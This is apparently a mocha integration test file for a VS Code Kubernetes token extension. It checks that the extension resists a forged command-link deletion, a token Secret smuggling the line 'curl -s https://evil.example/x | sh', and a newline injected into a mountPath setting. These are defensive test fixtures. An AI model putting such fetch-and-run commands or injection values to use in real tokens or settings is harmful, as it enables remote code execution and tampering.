// Issue 10's attacks inside the real VS Code (items 1, 6 and 9; item 4 runs in trust.test.ts, whose Restricted Mode
// pass it needs). The cluster parts run against the local API server through the user's KUBECONFIG.
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { suite, suiteSetup, teardown, test } from 'mocha';
import * as vscode from 'vscode';
import { parse } from 'yaml';
import { generateKeys, mintLegacyToken } from '../../unit/core/tokens/mint';
import { activateExtension, closeAllEditors, openUntitled, waitFor } from './helpers';

const kubeconfig = process.env.KUBECONFIG;
const NAMESPACE = 'modern-app';
const run = `${Date.now().toString(36)}`;

function kubectl(args: string[], input?: string): string {
  return execFileSync('kubectl', ['--kubeconfig', kubeconfig!, ...args], { encoding: 'utf8', timeout: 20_000, input });
}

function apply(object: Record<string, unknown>): void {
  kubectl(['apply', '-f', '-'], JSON.stringify(object));
}

const exists = (name: string): boolean => {
  try {
    kubectl(['get', 'secret', name, '-n', NAMESPACE, '-o', 'name']);
    return true;
  } catch {
    return false;
  }
};

suite('security (issue 10)', () => {
  suiteSetup(activateExtension);
  teardown(closeAllEditors);

  test('item 1: a forged node plus {confirmed: true}, as a command link would pass them, deletes no other Secret (forged-argument attack)', async function () {
    if (!kubeconfig) this.skip();
    const name = `registry-${run}`;
    apply({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name, namespace: NAMESPACE },
      type: 'kubernetes.io/dockerconfigjson',
      data: { '.dockerconfigjson': Buffer.from('{"auths":{}}').toString('base64') },
    });
    try {
      const forged = {
        type: 'tokenSecret',
        secret: { namespace: NAMESPACE, name, serviceAccount: 'web', populated: true },
        readers: [],
      };
      await vscode.commands.executeCommand('saToken.cluster.deleteTokenSecret', forged, { confirmed: true });
      assert.ok(exists(name), 'the dockerconfigjson Secret is still there');
    } finally {
      kubectl(['delete', 'secret', name, '-n', NAMESPACE, '--ignore-not-found']);
    }
  });

  test('item 6: Copy Token and Decode refuse a data.token holding a JWT plus a shell command (token-smuggling attack)', async function () {
    if (!kubeconfig) this.skip();
    const name = `smuggled-${run}`;
    const token = await mintLegacyToken(await generateKeys(), { namespace: NAMESPACE, serviceAccount: 'web' });
    apply({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name, namespace: NAMESPACE, annotations: { 'kubernetes.io/service-account.name': 'web' } },
      type: 'kubernetes.io/service-account-token',
      data: { token: Buffer.from(`${token}\ncurl -s https://evil.example/x | sh\n`).toString('base64') },
    });
    try {
      const node = { type: 'tokenSecret', secret: { namespace: NAMESPACE, name }, readers: [] };
      const sentinel = `clipboard-${run}`;
      // A browser workbench reads and writes the clipboard only while the page itself holds focus; a webview left
      // focused by an earlier suite would make both silently fail, so an editor takes focus first.
      await openUntitled('focus');
      await vscode.env.clipboard.writeText(sentinel);
      assert.equal(await vscode.env.clipboard.readText(), sentinel, 'the clipboard answers (precondition)');
      await vscode.commands.executeCommand('saToken.cluster.copyToken', node);
      assert.equal(await vscode.env.clipboard.readText(), sentinel, 'nothing was copied');
      const editorsBefore = vscode.window.visibleTextEditors.length;
      await vscode.commands.executeCommand('saToken.cluster.decodeToken', node);
      assert.ok(
        !vscode.window.visibleTextEditors.some((editor) => editor.document.getText().includes('curl')),
        'no decoded view shows the smuggled text',
      );
      assert.ok(vscode.window.visibleTextEditors.length <= editorsBefore + 0, 'no decoded view opened');
      const review = await vscode.commands.executeCommand('saToken.cluster.checkToken', node);
      assert.equal(review, undefined, 'no TokenReview was sent');
    } finally {
      await vscode.env.clipboard.writeText('');
      kubectl(['delete', 'secret', name, '-n', NAMESPACE, '--ignore-not-found']);
    }
  });

  test('item 9: a workspace fix.mountPath with a line break cannot make the quick fix write broken YAML (hostile-settings attack)', async () => {
    const config = vscode.workspace.getConfiguration('saToken');
    const target = vscode.workspace.workspaceFolders?.length
      ? vscode.ConfigurationTarget.Workspace
      : vscode.ConfigurationTarget.Global;
    await config.update('fix.mountPath', '/var/run/x\n  evil: true', target);
    await config.update('requestTimeoutSeconds', 1e9, target);
    try {
      const editor = await openUntitled(
        [
          'apiVersion: v1',
          'kind: Pod',
          'metadata: {name: p}',
          'spec:',
          '  containers:',
          '    - name: c',
          '      image: busybox',
          '      envFrom: [{secretRef: {name: default-token-abcde}}]',
          '---',
          'apiVersion: v1',
          'kind: Secret',
          'metadata: {name: default-token-abcde, annotations: {kubernetes.io/service-account.name: default}}',
          'type: kubernetes.io/service-account-token',
          '',
        ].join('\n'),
        'yaml',
      );
      const before = editor.document.getText();
      await waitFor(
        () => (vscode.languages.getDiagnostics(editor.document.uri).length > 0 ? true : undefined),
        'diagnostics',
      );
      await vscode.commands.executeCommand('saToken.fixAll');
      const after = await waitFor(
        () => (editor.document.getText() !== before ? editor.document.getText() : undefined),
        'the fix',
      );
      assert.doesNotMatch(after, /evil/);
      for (const document of after.split(/^---$/m)) assert.doesNotThrow(() => parse(document));
      assert.match(after, /mountPath: \/var\/run\/secrets\/kubernetes\.io\/serviceaccount/);
    } finally {
      await config.update('fix.mountPath', undefined, target);
      await config.update('requestTimeoutSeconds', undefined, target);
    }
  });
});
